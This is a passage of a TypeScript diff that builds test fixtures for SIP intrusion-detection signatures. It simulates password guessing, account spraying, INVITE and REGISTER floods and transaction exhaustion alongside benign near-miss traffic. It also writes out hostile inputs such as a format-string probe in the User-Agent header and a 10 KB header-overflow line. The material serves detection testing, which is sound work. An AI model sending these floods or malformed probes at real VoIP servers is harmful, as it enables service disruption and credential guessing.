+    const c = Clock.at('2026-11-20T03:45:00Z');
+    const bot: Endpoint = { ip: '203.0.113.8', port: 5060 };
+    for (let i = 0; i < 15; i++) {
+      const q: RequestSpec = {
+        method: 'INVITE',
+        ruri: `sip:0046701234567@${DOMAIN}`,
+        from: { user: '2001', host: DOMAIN, tag: f.r.hex(8) },
+        to: { user: '0046701234567', host: DOMAIN },
+        callId: `${f.r.hex(16)}`,
+        cseq: 2,
+        branch: `z9hG4bK${f.r.hex(12)}`,
+        via: bot,
+        userAgent: 'VaxSIPUserAgent/3.1',
+        auth: { username: '2001', realm: DOMAIN, header: 'Proxy-Authorization' },
+        body: SDP(bot.ip, 12000),
+      };
+      f.request(q, PROXY, c.us);
+      f.response(q, 407, PROXY, c.advanceMs(2), { challenge: 'proxy', realm: DOMAIN, server: UA.kamailio });
+      f.request(
+        { ...q, method: 'ACK', to: { ...q.to, tag: f.r.hex(8) }, body: undefined } as RequestSpec,
+        PROXY,
+        c.advanceMs(1),
+      );
+      c.advanceMs(4000);
+    }
+    f.write('auth/SIP-AUTH-01/positive/invite-password-guessing-407.jsonl');
+  }
+  {
+    // Digest is normal: a phone re-registering every 30 s for 10 min, each time 401 → 200.
+    const f = new Fixture(new Rand(503));
+    const c = Clock.at('2026-11-20T08:00:00Z');
+    const phone: Endpoint = { ip: '10.77.3.15', port: 5060 };
+    const callId = '5f1c9a7e20b34d1d@10.77.3.15';
+    for (let i = 0; i < 20; i++) {
+      registerLogin(f, c, phone, REGISTRAR, {
+        user: '1001',
+        domain: DOMAIN,
+        final: 200,
+        ua: UA.yealink,
+        server: UA.kamailio,
+        callId,
+        cseqStart: 1 + 2 * i,
+        expires: 60,
+      });
+      c.advanceMs(30000);
+    }
+    f.write('auth/SIP-AUTH-01/negative/challenge-then-success-every-30s.jsonl');
+  }
+  {
+    // Near miss: a phone with a stale password after a change retries 9 times in 5 min.
+    const f = new Fixture(new Rand(504));
+    const c = Clock.at('2026-11-20T08:30:00Z');
+    const phone: Endpoint = { ip: '10.77.3.16', port: 5060 };
+    for (let i = 0; i < 9; i++) {
+      registerLogin(f, c, phone, REGISTRAR, {
+        user: '1002',
+        domain: DOMAIN,
+        final: 403,
+        ua: UA.polycom,
+        server: UA.kamailio,
+        callId: 'aa01bb02cc03@10.77.3.16',
+        cseqStart: 1 + 2 * i,
+      });
+      c.advanceMs(32000);
+    }
+    f.write('auth/SIP-AUTH-01/negative/stale-password-9-retries.jsonl');
+  }
+  writeEvents('auth/SIP-AUTH-01/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-AUTH-02 -------------------------------------------------------------------------------
+  {
+    // Password spraying: 2 common passwords against 30 extensions from one host in 2 minutes.
+    const f = new Fixture(new Rand(601));
+    const c = Clock.at('2026-11-20T04:00:00Z');
+    const sprayer: Endpoint = { ip: '203.0.113.9', port: 5060 };
+    for (let pass = 0; pass < 2; pass++) {
+      for (let ext = 1000; ext < 1030; ext++) {
+        registerLogin(f, c, sprayer, REGISTRAR, {
+          user: String(ext),
+          domain: DOMAIN,
+          final: 403,
+          ua: 'PortSIP VoIP SDK 11.2',
+          server: UA.kamailio,
+        });
+        c.advanceMs(1500);
+      }
+    }
+    f.write('auth/SIP-AUTH-02/positive/spray-30-extensions.jsonl');
+  }
+  {
+    // After an outage 60 phones behind one NAT re-register within a minute (401 → 200 each); three
+    // of them still carry an old password. Many accounts, one source — but not a spray.
+    const f = new Fixture(new Rand(602));
+    const c = Clock.at('2026-11-20T06:00:00Z');
+    const nat: Endpoint = { ip: '203.0.113.50', port: 5060 };
+    for (let i = 0; i < 60; i++) {
+      const stale = i === 5 || i === 17 || i === 41;
+      registerLogin(f, c, { ip: nat.ip, port: 30000 + i }, REGISTRAR, {
+        user: String(3000 + i),
+        domain: DOMAIN,
+        final: stale ? 403 : 200,
+        ua: UA.yealink,
+        server: UA.kamailio,
+      });
+      c.advanceMs(900);
+    }
+    f.write('auth/SIP-AUTH-02/negative/nat-site-mass-reregistration.jsonl');
+  }
+  {
+    // Near miss: failures on 9 distinct accounts from one host in 5 minutes (threshold 10).
+    const f = new Fixture(new Rand(603));
+    const c = Clock.at('2026-11-20T07:00:00Z');
+    const src: Endpoint = { ip: '203.0.113.51', port: 5060 };
+    for (let ext = 4000; ext < 4009; ext++) {
+      registerLogin(f, c, src, REGISTRAR, {
+        user: String(ext),
+        domain: DOMAIN,
+        final: 403,
+        ua: UA.grandstream,
+        server: UA.kamailio,
+      });
+      c.advanceMs(20000);
+    }
+    f.write('auth/SIP-AUTH-02/negative/nine-accounts-failing.jsonl');
+  }
+  writeEvents('auth/SIP-AUTH-02/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-AUTH-03 -------------------------------------------------------------------------------
+  {
+    // svcrack finds the password of 1001 after 25 wrong guesses; the registrar answers 200.
+    const f = new Fixture(new Rand(701));
+    const c = Clock.at('2026-11-20T03:30:00Z');
+    for (let i = 0; i < 26; i++) {
+      registerLogin(f, c, attacker, REGISTRAR, {
+        user: '1001',
+        domain: DOMAIN,
+        final: i === 25 ? 200 : 403,
+        ua: UA.svwar,
+        server: UA.asterisk,
+      });
+      c.advanceMs(700);
+    }
+    f.write('auth/SIP-AUTH-03/positive/svcrack-finds-password.jsonl');
+  }
+  {
+    // A user mistypes the password twice on a new softphone, then gets it right.
+    const f = new Fixture(new Rand(702));
+    const c = Clock.at('2026-11-20T09:15:00Z');
+    const phone: Endpoint = { ip: '10.77.3.20', port: 5060 };
+    for (let i = 0; i < 3; i++) {
+      registerLogin(f, c, phone, REGISTRAR, {
+        user: '2002',
+        domain: DOMAIN,
+        final: i < 2 ? 403 : 200,
+        ua: UA.zoiper,
+        server: UA.kamailio,
+        callId: 'c0ffee11aa22@10.77.3.20',
+        cseqStart: 1 + 2 * i,
+      });
+      c.advanceMs(15000);
+    }
+    f.write('auth/SIP-AUTH-03/negative/typo-then-success.jsonl');
+  }
+  {
+    // Near miss: a stale-password phone fails 8 times, the user fixes it 20 minutes later (window 10 min).
+    const f = new Fixture(new Rand(703));
+    const c = Clock.at('2026-11-20T09:30:00Z');
+    const phone: Endpoint = { ip: '10.77.3.21', port: 5060 };
+    for (let i = 0; i < 8; i++) {
+      registerLogin(f, c, phone, REGISTRAR, {
+        user: '2003',
+        domain: DOMAIN,
+        final: 403,
+        ua: UA.polycom,
+        server: UA.kamailio,
+        callId: 'dd33ee44@10.77.3.21',
+        cseqStart: 1 + 2 * i,
+      });
+      c.advanceMs(30000);
+    }
+    c.advanceMs(20 * 60 * 1000);
+    registerLogin(f, c, phone, REGISTRAR, {
+      user: '2003',
+      domain: DOMAIN,
+      final: 200,
+      ua: UA.polycom,
+      server: UA.kamailio,
+      callId: 'dd33ee44@10.77.3.21',
+      cseqStart: 17,
+    });
+    f.write('auth/SIP-AUTH-03/negative/fixed-after-window.jsonl');
+  }
+  writeEvents('auth/SIP-AUTH-03/negative/testbed-udp-real.jsonl', realUdp);
+}
+
+function dos(realUdp: SipEvent[]): void {
+  // SIP-DOS-01 --------------------------------------------------------------------------------
+  {
+    // inviteflood-style: 160 new INVITEs (fresh Call-IDs) in 8 s from one host; the server
+    // answers 100 and then 503 as it saturates.
+    const f = new Fixture(new Rand(801));
+    const c = Clock.at('2026-11-20T05:00:00Z');
+    const flooder: Endpoint = { ip: '203.0.113.99', port: 5060 };
+    for (let i = 0; i < 160; i++) {
+      const q: RequestSpec = {
+        method: 'INVITE',
+        ruri: `sip:${1000 + (i % 50)}@${DOMAIN}`,
+        from: { user: 'flood', host: flooder.ip, tag: f.r.hex(8) },
+        to: { user: String(1000 + (i % 50)), host: DOMAIN },
+        callId: `${f.r.hex(24)}`,
+        cseq: 1,
+        branch: `z9hG4bK${f.r.hex(12)}`,
+        via: flooder,
+        userAgent: 'sipp',
+        body: SDP(flooder.ip, 6000),
+      };
+      f.request(q, PROXY, c.us);
+      if (i % 4 === 0) f.response(q, i > 80 ? 503 : 100, PROXY, c.advanceMs(1), { server: UA.kamailio });
+      c.advanceMs(50);
+    }
+    f.write('dos/SIP-DOS-01/positive/invite-flood-160-in-8s.jsonl');
+  }
+  {
+    // A UAS that went silent: 25 calls, each INVITE resent 6 times on Timer A = 175 INVITE packets
+    // in ~40 s, but only 25 transactions.
+    const f = new Fixture(new Rand(802));
+    const c = Clock.at('2026-11-20T05:30:00Z');
+    const gw: Endpoint = { ip: '10.77.2.30', port: 5060 };
+    for (let i = 0; i < 25; i++) {
+      const q: RequestSpec = {
+        method: 'INVITE',
+        ruri: `sip:49305550${String(100 + i)}@${PROXY.ip}`,
+        from: { user: '8001', host: DOMAIN, tag: f.r.hex(8) },
+        to: { user: `49305550${String(100 + i)}`, host: PROXY.ip },
+        callId: `${f.r.hex(16)}@${gw.ip}`,
+        cseq: 1,
+        branch: `z9hG4bK${f.r.hex(12)}`,
+        via: gw,
+        userAgent: UA.freeswitch,
+        body: SDP(gw.ip, 16000 + 2 * i),
+      };
+      const text = renderRequest(f.r, q);
+      f.wire(text, gw, PROXY, c.us);
+      retransmit(f, text, gw, PROXY, c.us, 6);
+      c.advanceMs(600);
+    }
+    f.write('dos/SIP-DOS-01/negative/retransmissions-to-dead-uas.jsonl');
+  }
+  {
+    // A busy PBX: 90 calls in a minute through a challenging proxy = 180 INVITE transactions
+    // (407 then authenticated retry, same Call-ID) but 90 calls.
+    const f = new Fixture(new Rand(803));
+    const c = Clock.at('2026-11-20T13:00:00Z');
+    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
+    for (let i = 0; i < 90; i++) {
+      const start = c.us;
+      call(f, c, pbx, PROXY, {
+        from: String(2100 + (i % 20)),
+        to: `4930${String(6660000 + i)}`,
+        domain: DOMAIN,
+        final: 200,
+        ua: UA.asterisk,
+        server: UA.kamailio,
+        challenge: true,
+        auth: { username: 'pbx-trunk', realm: DOMAIN },
+        ringMs: 300,
+        talkMs: 100,
+      });
+      c.us = start + 650_000;
+    }
+    f.write('dos/SIP-DOS-01/negative/busy-pbx-90-calls-challenged.jsonl');
+  }
+  writeEvents('dos/SIP-DOS-01/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-DOS-02 --------------------------------------------------------------------------------
+  {
+    // REGISTER flood: 150 REGISTERs in 15 s from one host (no credentials, random users).
+    const f = new Fixture(new Rand(901));
+    const c = Clock.at('2026-11-20T05:10:00Z');
+    const flooder: Endpoint = { ip: '203.0.113.101', port: 5060 };
+    for (let i = 0; i < 150; i++) {
+      probe(f, c, flooder, REGISTRAR, {
+        method: 'REGISTER',
+        toUser: String(5000 + i),
+        fromUser: String(5000 + i),
+        toHost: DOMAIN,
+        ua: 'sipp',
+        ...(i % 3 === 0 ? { status: 401, server: UA.kamailio } : {}),
+      });
+      c.advanceMs(100);
+    }
+    f.write('dos/SIP-DOS-02/positive/register-flood-150-in-15s.jsonl');
+  }
+  {
+    // Near miss: a NAT site's 45 phones re-register within a minute (2 REGISTERs each = 90), and
+    // 20 of the unauthenticated REGISTERs are resent once (lossy uplink): 110 packets, 90 requests.
+    const f = new Fixture(new Rand(902));
+    const c = Clock.at('2026-11-20T06:00:00Z');
+    const nat = '203.0.113.50';
+    for (let i = 0; i < 45; i++) {
+      const phone: Endpoint = { ip: nat, port: 30000 + i };
+      if (i < 20) {
+        const q = probe(f, c, phone, REGISTRAR, {
+          method: 'REGISTER',
+          toUser: String(3000 + i),
+          fromUser: String(3000 + i),
+          toHost: DOMAIN,
+          ua: UA.yealink,
+        });
+        retransmit(f, renderRequest(f.r, q), phone, REGISTRAR, c.us, 1);
+        c.advanceMs(700);
+        registerLogin(f, c, phone, REGISTRAR, {
+          user: String(3000 + i),
+          domain: DOMAIN,
+          final: 200,
+          ua: UA.yealink,
+          server: UA.kamailio,
+          skipChallenge: true,
+        });
+      } else {
+        registerLogin(f, c, phone, REGISTRAR, {
+          user: String(3000 + i),
+          domain: DOMAIN,
+          final: 200,
+          ua: UA.yealink,
+          server: UA.kamailio,
+        });
+      }
+      c.advanceMs(600);
+    }
+    f.write('dos/SIP-DOS-02/negative/nat-site-reregistration-with-resends.jsonl');
+  }
+  writeEvents('dos/SIP-DOS-02/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-DOS-03 --------------------------------------------------------------------------------
+  {
+    // A mixed-method flood (OPTIONS, MESSAGE, SUBSCRIBE, INFO): 150 requests in 1.5 s from one host.
+    const f = new Fixture(new Rand(1001));
+    const c = Clock.at('2026-11-20T05:20:00Z');
+    const flooder: Endpoint = { ip: '203.0.113.120', port: 5060 };
+    const methods = ['OPTIONS', 'MESSAGE', 'SUBSCRIBE', 'INFO'];
+    for (let i = 0; i < 150; i++) {
+      probe(f, c, flooder, PROXY, {
+        method: methods[i % 4] ?? 'OPTIONS',
+        toUser: String(1000 + (i % 30)),
+        toHost: DOMAIN,
+        ua: 'sipp',
+        ...(i % 10 === 0 ? { status: 503, server: UA.kamailio } : {}),
+      });
+      c.advanceMs(10);
+    }
+    f.write('dos/SIP-DOS-03/positive/mixed-request-flood.jsonl');
+  }
+  {
+    // Near miss: 40 requests in 6 s (pike: 16 per 2 s unit), plus resends that do not count.
+    const f = new Fixture(new Rand(1002));
+    const c = Clock.at('2026-11-20T15:00:00Z');
+    const pbx: Endpoint = { ip: '10.77.2.40', port: 5060 };
+    for (let i = 0; i < 40; i++) {
+      const q = probe(f, c, pbx, PROXY, {
+        method: i % 2 === 0 ? 'OPTIONS' : 'NOTIFY',
+        toUser: String(1000 + i),
+        toHost: DOMAIN,
+        ua: UA.asterisk,
+      });
+      if (i % 2 === 0) retransmit(f, renderRequest(f.r, q), pbx, PROXY, c.us, 2);
+      c.advanceMs(145);
+    }
+    f.write('dos/SIP-DOS-03/negative/busy-pbx-40-requests-with-resends.jsonl');
+  }
+  writeEvents('dos/SIP-DOS-03/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-DOS-04 --------------------------------------------------------------------------------
+  {
+    // A distributed INVITE surge from 150 sources; the target answers 503 to most of it.
+    const f = new Fixture(new Rand(1101));
+    const c = Clock.at('2026-11-20T05:40:00Z');
+    for (let i = 0; i < 150; i++) {
+      const src: Endpoint = {
+        ip: i % 2 === 0 ? `203.0.113.${1 + (i % 200) / 2}` : `192.0.2.${1 + ((i - 1) % 200) / 2}`,
+        port: 5060,
+      };
+      const q: RequestSpec = {
+        method: 'INVITE',
+        ruri: `sip:${1000 + (i % 40)}@${DOMAIN}`,
+        from: { user: String(f.r.int(100, 999)), host: src.ip, tag: f.r.hex(8) },
+        to: { user: String(1000 + (i % 40)), host: DOMAIN },
+        callId: `${f.r.hex(20)}`,
+        cseq: 1,
+        branch: `z9hG4bK${f.r.hex(12)}`,
+        via: src,
+        userAgent: 'sipp',
+        body: SDP(src.ip, 7000),
+      };
+      f.request(q, PROXY, c.us);
+      f.response(q, 100, PROXY, c.advanceMs(2), { server: UA.kamailio });
+      f.response(q, i % 10 < 8 ? 503 : 486, PROXY, c.advanceMs(20), { server: UA.kamailio });
+      f.request(
+        { ...q, method: 'ACK', body: undefined, to: { ...q.to, tag: f.r.hex(8) } } as RequestSpec,
+        PROXY,
+        c.advanceMs(1),
+      );
+      c.advanceMs(100);
+    }
+    f.write('dos/SIP-DOS-04/positive/distributed-surge-503-storm.jsonl');
+  }
+  {
+    // A healthy gateway: 70 calls in 30 s (≈ 125 final responses incl. BYE), 4 of them 503 — 5 %.
+    const f = new Fixture(new Rand(1102));
+    const c = Clock.at('2026-11-20T16:00:00Z');
+    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
+    for (let i = 0; i < 70; i++) {
+      const start = c.us;
+      const final = i % 19 === 0 ? 503 : i % 6 === 0 ? 486 : 200;
+      call(f, c, pbx, PROXY, {
+        from: String(2100 + (i % 20)),
+        to: `4930${String(7770000 + i)}`,
+        domain: DOMAIN,
+        final,
+        ua: UA.asterisk,
+        server: UA.kamailio,
+        ringMs: 200,
+        talkMs: 100,
+      });
+      c.us = start + 400_000;
+    }
+    f.write('dos/SIP-DOS-04/negative/healthy-gateway-5pct-503.jsonl');
+  }
+  {
+    // Near miss: a trunk is down and answers every call 503 — but only 30 calls (min_events 100).
+    const f = new Fixture(new Rand(1103));
+    const c = Clock.at('2026-11-20T16:30:00Z');
+    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
+    for (let i = 0; i < 30; i++) {
+      call(f, c, pbx, PROXY, {
+        from: '2100',
+        to: `4930${String(8880000 + i)}`,
+        domain: DOMAIN,
+        final: 503,
+        ua: UA.asterisk,
+        server: UA.kamailio,
+      });
+      c.advanceMs(1500);
+    }
+    f.write('dos/SIP-DOS-04/negative/trunk-down-30-calls.jsonl');
+  }
+  writeEvents('dos/SIP-DOS-04/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-DOS-05 --------------------------------------------------------------------------------
+  {
+    // Transaction exhaustion: 40 INVITEs in 30 s from one host. 30 of them the target accepts
+    // (100 Trying) but never answers finally — it holds them, as a forking proxy does until
+    // Timer C; 10 are answered 200 OK and never ACKed (the UAS resends its 200 on Timer G).
+    // Unrelated keepalives keep event time moving past the timeout.
+    const f = new Fixture(new Rand(1201));
+    const c = Clock.at('2026-11-20T05:50:00Z');
+    const attacker: Endpoint = { ip: '203.0.113.140', port: 5060 };
+    for (let i = 0; i < 40; i++) {
+      const q: RequestSpec = {
+        method: 'INVITE',
+        ruri: `sip:${1000 + (i % 10)}@${DOMAIN}`,
+        from: { user: 'anonymous', host: attacker.ip, tag: f.r.hex(8) },
+        to: { user: String(1000 + (i % 10)), host: DOMAIN },
+        callId: `${f.r.hex(20)}`,
+        cseq: 1,
+        branch: `z9hG4bK${f.r.hex(12)}`,
+        via: attacker,
+        userAgent: 'sipp',
+        body: SDP(attacker.ip, 8000),
+      };
+      f.request(q, REGISTRAR, c.us);
+      const t0 = c.us;
+      f.response(q, 100, REGISTRAR, t0 + 2000);
+      if (i % 4 === 3) {
+        f.response(q, 180, REGISTRAR, t0 + 30000, { toTag: `tag${i}` });
+        const ok = renderResponse(f.r, q, 200, {
+          toTag: `tag${i}`,
+          server: UA.asterisk,
+          body: SDP(REGISTRAR.ip, 30000 + 2 * i),
+        });
+        f.wire(ok, REGISTRAR, attacker, t0 + 500000);
+        retransmit(f, ok, REGISTRAR, attacker, t0 + 500000, 4);
+      }
+      c.advanceMs(750);
+    }
+    const ua: Endpoint = { ip: '10.77.0.11', port: 5060 };
+    for (let i = 0; i < 12; i++) {
+      c.advanceMs(30000);
+      probe(
+        f,
+        c,
+        ua,
+        { ip: '10.77.0.21', port: 5060 },
+        {
+          method: 'OPTIONS',
+          fromUser: 'keepalive',
+          ua: 'sipward-testbed-sipp',
+          status: 200,
+          server: 'sipward-testbed-registrar',
+        },
+      );
+    }
+    f.write('dos/SIP-DOS-05/positive/invite-exhaustion-no-final-no-ack.jsonl');
+  }
+  {
+    // 30 calls that ring for 60 s and are cancelled (CANCEL → 200, 487 → ACK): long but complete.
+    const f = new Fixture(new Rand(1202));
+    const c = Clock.at('2026-11-20T17:00:00Z');
+    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
+    for (let i = 0; i < 30; i++) {
+      const q: RequestSpec = {
+        method: 'INVITE',
+        ruri: `sip:${3000 + i}@${DOMAIN}`,
+        from: { user: '2100', host: DOMAIN, tag: f.r.hex(8) },
+        to: { user: String(3000 + i), host: DOMAIN },
+        callId: `${f.r.hex(16)}@${pbx.ip}`,
+        cseq: 1,
+        branch: `z9hG4bK${f.r.hex(12)}`,
+        via: pbx,
+        userAgent: UA.asterisk,
+        body: SDP(pbx.ip, 14000 + 2 * i),
+      };
+      const t0 = c.us;
+      f.request(q, PROXY, t0);
+      f.response(q, 100, PROXY, t0 + 2000);
+      f.response(q, 180, PROXY, t0 + 60000, { toTag: `r${i}` });
+      const cancel: RequestSpec = { ...q, method: 'CANCEL', body: undefined, extraHeaders: [] } as RequestSpec;
+      f.request(cancel, PROXY, t0 + 60_000_000);
+      f.response(cancel, 200, PROXY, t0 + 60_002_000);
+      f.response(q, 487, PROXY, t0 + 60_003_000, { toTag: `r${i}` });
+      f.request(
+        { ...q, method: 'ACK', body: undefined, to: { ...q.to, tag: `r${i}` } } as RequestSpec,
+        PROXY,
+        t0 + 60_004_000,
+      );
+      c.advanceMs(2000);
+    }
+    const ua: Endpoint = { ip: '10.77.0.11', port: 5060 };
+    for (let i = 0; i < 10; i++) {
+      c.advanceMs(30000);
+      probe(
+        f,
+        c,
+        ua,
+        { ip: '10.77.0.21', port: 5060 },
+        {
+          method: 'OPTIONS',
+          fromUser: 'keepalive',
+          ua: 'sipward-testbed-sipp',
+          status: 200,
+          server: 'sipward-testbed-registrar',
+        },
+      );
+    }
+    f.write('dos/SIP-DOS-05/negative/ringing-then-cancelled.jsonl');
+  }
+  {
+    // Near miss: 12 calls whose final response never reached the capture (asymmetric tap,
+    // lossy mirror) — under the threshold of 20.
+    const f = new Fixture(new Rand(1203));
+    const c = Clock.at('2026-11-20T17:30:00Z');
+    const pbx: Endpoint = { ip: '10.77.2.12', port: 5060 };
+    for (let i = 0; i < 12; i++) {
+      const q: RequestSpec = {
+        method: 'INVITE',
+        ruri: `sip:${3100 + i}@${DOMAIN}`,
+        from: { user: '2101', host: DOMAIN, tag: f.r.hex(8) },
+        to: { user: String(3100 + i), host: DOMAIN },
+        callId: `${f.r.hex(16)}@${pbx.ip}`,
+        cseq: 1,
+        branch: `z9hG4bK${f.r.hex(12)}`,
+        via: pbx,
+        userAgent: UA.asterisk,
+        body: SDP(pbx.ip, 15000 + 2 * i),
+      };
+      f.request(q, PROXY, c.us);
+      f.response(q, 100, PROXY, c.advanceMs(2));
+      f.response(q, 180, PROXY, c.advanceMs(400), { toTag: `a${i}` });
+      c.advanceMs(2000);
+    }
+    const ua: Endpoint = { ip: '10.77.0.11', port: 5060 };
+    for (let i = 0; i < 10; i++) {
+      c.advanceMs(30000);
+      probe(
+        f,
+        c,
+        ua,
+        { ip: '10.77.0.21', port: 5060 },
+        {
+          method: 'OPTIONS',
+          fromUser: 'keepalive',
+          ua: 'sipward-testbed-sipp',
+          status: 200,
+          server: 'sipward-testbed-registrar',
+        },
+      );
+    }
+    f.write('dos/SIP-DOS-05/negative/twelve-finals-missed-by-tap.jsonl');
+  }
+  writeEvents('dos/SIP-DOS-05/negative/testbed-udp-real.jsonl', realUdp);
+}
+
+function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
+  const base = (f: Fixture, src: Endpoint, over: Partial<RequestSpec> = {}): RequestSpec => ({
+    method: 'INVITE',
+    ruri: `sip:1001@${DOMAIN}`,
+    from: { user: '555', host: src.ip, tag: f.r.hex(8) },
+    to: { user: '1001', host: DOMAIN },
+    callId: `${f.r.hex(20)}@${src.ip}`,
+    cseq: 1,
+    branch: `z9hG4bK${f.r.hex(12)}`,
+    via: src,
+    userAgent: UA.linphone,
+    ...over,
+  });
+
+  // SIP-MAL-01 --------------------------------------------------------------------------------
+  {
+    const f = new Fixture(new Rand(1301));
+    const c = Clock.at('2026-11-20T06:10:00Z');
+    const src: Endpoint = { ip: '203.0.113.150', port: 5060 };
+    f.request(
+      base(f, src, { ruri: `sip:${'9'.repeat(400)}@${DOMAIN}`, to: { user: '9'.repeat(400), host: DOMAIN } }),
+      PROXY,
+      c.us,
+    );
+    f.request(base(f, src, { method: 'OPTIONS', callId: `${'A'.repeat(300)}@${src.ip}` }), PROXY, c.advanceMs(500));
+    f.request(
+      base(f, src, { method: 'OPTIONS', from: { user: '555', host: src.ip, display: 'x'.repeat(300), tag: 'a1' } }),
+      PROXY,
+      c.advanceMs(500),
+    );
+    f.write('malformed/SIP-MAL-01/positive/oversize-uri-call-id-from.jsonl');
+  }
+  {
+    // WebRTC-style INVITE: ~2.6 KB of SDP with ICE candidates → oversize_content_length only,
+    // which this signature leaves out on purpose (Snort's 1024-byte body limit, FP lesson).
+    const f = new Fixture(new Rand(1302));
+    const c = Clock.at('2026-11-20T18:00:00Z');
+    const src: Endpoint = { ip: '10.77.4.10', port: 5060 };
+    let extra =
+      'a=ice-ufrag:Fh3k\r\na=ice-pwd:8Zq9r1Yc0Lx2Vb7Nm4Kp5Jt6\r\na=fingerprint:sha-256 ' +
+      Array.from({ length: 32 }, (_, i) => (i * 7 + 16).toString(16).toUpperCase().padStart(2, '0')).join(':') +
+      '\r\n';
+    for (let i = 0; i < 24; i++)
+      extra += `a=candidate:${1000 + i} 1 udp ${2130706431 - i} 10.77.4.${10 + (i % 5)} ${50000 + i} typ host generation 0\r\n`;
+    for (let i = 0; i < 8; i++)
+      extra += `a=rtpmap:${96 + i} opus/48000/2\r\na=fmtp:${96 + i} minptime=10;useinbandfec=1\r\n`;
+    f.request(base(f, src, { body: SDP(src.ip, 50000, extra), userAgent: 'JsSIP 3.10.1' }), PROXY, c.us);
+    f.write('malformed/SIP-MAL-01/negative/webrtc-large-sdp.jsonl');
+  }
+  writeEvents('malformed/SIP-MAL-01/negative/testbed-frag-3kb-sdp-real.jsonl', realFrag);
+  writeEvents('malformed/SIP-MAL-01/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-MAL-02 --------------------------------------------------------------------------------
+  {
+    const f = new Fixture(new Rand(1401));
+    const c = Clock.at('2026-11-20T06:20:00Z');
+    const src: Endpoint = { ip: '203.0.113.151', port: 5060 };
+    f.request(base(f, src, { method: 'OPTIONS', omit: ['Call-ID'] }), PROXY, c.us);
+    f.request(base(f, src, { from: { host: '', raw: '' } }), PROXY, c.advanceMs(300));
+    f.request(base(f, src, { method: 'REGISTER', ruri: `sip:${DOMAIN}`, omit: ['Via'] }), PROXY, c.advanceMs(300));
+    f.write('malformed/SIP-MAL-02/positive/missing-call-id-empty-from-no-via.jsonl');
+  }
+  {
+    // An RFC 2543-era device that omits Max-Forwards: not one of the five headers the sanity
+    // check requires, so no alert.
+    const f = new Fixture(new Rand(1402));
+    const c = Clock.at('2026-11-20T18:10:00Z');
+    const src: Endpoint = { ip: '10.77.4.20', port: 5060 };
+    for (let i = 0; i < 3; i++) {
+      f.request(
+        base(f, src, { method: 'OPTIONS', maxForwards: null, userAgent: 'Cisco-SIPGateway/IOS-12.x' }),
+        PROXY,
+        c.us,
+      );
+      c.advanceMs(30000);
+    }
+    f.write('malformed/SIP-MAL-02/negative/legacy-no-max-forwards.jsonl');
+  }
+  writeEvents('malformed/SIP-MAL-02/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-MAL-03 --------------------------------------------------------------------------------
+  {
+    const f = new Fixture(new Rand(1501));
+    const c = Clock.at('2026-11-20T06:30:00Z');
+    const src: Endpoint = { ip: '203.0.113.152', port: 5060 };
+    f.request(base(f, src, { cseqMethod: 'REGISTER' }), PROXY, c.us);
+    f.request(
+      base(f, src, { method: 'OPTIONS', body: { type: 'text/plain', text: 'hello' }, contentLength: 500 }),
+      PROXY,
+      c.advanceMs(300),
+    );
+    f.request(
+      base(f, src, { method: 'OPTIONS', startLine: `OPTIONS sip:1001@${DOMAIN} SIP/7.0` }),
+      PROXY,
+      c.advanceMs(300),
+    );
+    f.write('malformed/SIP-MAL-03/positive/cseq-mismatch-length-version.jsonl');
+  }
+  {
+    // Extension methods (RFC 3262/3265/3311/3428/3515/3903/6086) are valid SIP, not anomalies.
+    const f = new Fixture(new Rand(1502));
+    const c = Clock.at('2026-11-20T18:20:00Z');
+    const src: Endpoint = { ip: '10.77.4.30', port: 5060 };
+    for (const method of ['PUBLISH', 'MESSAGE', 'INFO', 'UPDATE', 'PRACK', 'REFER', 'NOTIFY', 'SUBSCRIBE']) {
+      f.request(
+        base(f, src, {
+          method,
+          ...(method === 'MESSAGE' ? { body: { type: 'text/plain', text: 'Meeting moved to 3pm' } } : {}),
+        }),
+        PROXY,
+        c.us,
+      );
+      c.advanceMs(200);
+    }
+    f.write('malformed/SIP-MAL-03/negative/extension-methods.jsonl');
+  }
+  writeEvents('malformed/SIP-MAL-03/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-MAL-04 --------------------------------------------------------------------------------
+  {
+    // ET 2003474: "REGISTER" with no Request-URI and no version (Asterisk DoS).
+    const f = new Fixture(new Rand(1601));
+    const c = Clock.at('2026-11-20T06:40:00Z');
+    const src: Endpoint = { ip: '203.0.113.153', port: 5060 };
+    f.request(base(f, src, { method: 'REGISTER', startLine: 'REGISTER' }), REGISTRAR, c.us);
+    f.write('malformed/SIP-MAL-04/positive/register-without-uri-or-version.jsonl');
+  }
+  {
+    // Format-string probe in User-Agent and From display name.
+    const f = new Fixture(new Rand(1602));
+    const c = Clock.at('2026-11-20T06:41:00Z');
+    const src: Endpoint = { ip: '203.0.113.154', port: 5060 };
+    f.request(
+      base(f, src, {
+        method: 'OPTIONS',
+        userAgent: '%n%n%n%n%s%s%s%s',
+        from: { user: '100', host: src.ip, display: '%x%x%x%x', tag: 'f1' },
+      }),
+      PROXY,
+      c.us,
+    );
+    f.write('malformed/SIP-MAL-04/positive/format-string-user-agent.jsonl');
+  }
+  {
+    // CVE-2005-4050-style: one 10 KB header line (an overflow of the line buffer).
+    const f = new Fixture(new Rand(1603));
+    const c = Clock.at('2026-11-20T06:42:00Z');
+    const src: Endpoint = { ip: '203.0.113.155', port: 5060 };
+    f.request(base(f, src, { extraHeaders: [`Subject: ${'A'.repeat(10000)}`] }), PROXY, c.us);
+    f.write('malformed/SIP-MAL-04/positive/ten-kb-header-line.jsonl');
+  }
+  {
+    // Large but legitimate: the testbed's 3.5 KB INVITE plus display names with a percent sign.
+    const f = new Fixture(new Rand(1604));
+    const c = Clock.at('2026-11-20T18:30:00Z');
+    const src: Endpoint = { ip: '10.77.4.40', port: 5060 };
+    f.request(
